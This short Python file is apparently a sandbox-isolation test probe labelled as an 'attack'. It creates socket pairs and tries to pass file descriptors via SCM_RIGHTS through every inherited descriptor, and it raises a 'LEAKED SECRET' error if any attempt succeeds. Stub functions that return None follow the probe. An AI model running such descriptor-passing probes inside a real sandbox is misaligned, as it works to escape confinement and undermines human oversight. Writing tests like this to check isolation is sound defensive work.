# /// attack
# tries = "Makes pairs of sockets, and hands descriptors through every socket it inherited."
# gain = "harm"
# open_at = ["L0"]
# plain = "secret"
# ///
import array
import os
import socket

done = []
try:
    one, other = socket.socketpair()
    one.send(b"x")
    done.append("pair " + repr(other.recv(1)))
except OSError:
    pass
for descriptor in range(256):
    try:
        inherited = socket.socket(fileno=os.dup(descriptor))
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
        inherited.sendmsg([b"\x00\x00\x00\x01\xc0"], rights)
        done.append("sent through " + str(descriptor))
        inherited.recvmsg(1, 1024, socket.MSG_DONTWAIT)
    except OSError:
        pass
if done:
    raise RuntimeError("LEAKED SECRET-" + repr(done))


def double(x):
    return None


class Box:
    def put(self, x):
        pass

    def take(self):
        return None


def apply(f, x):
    return None
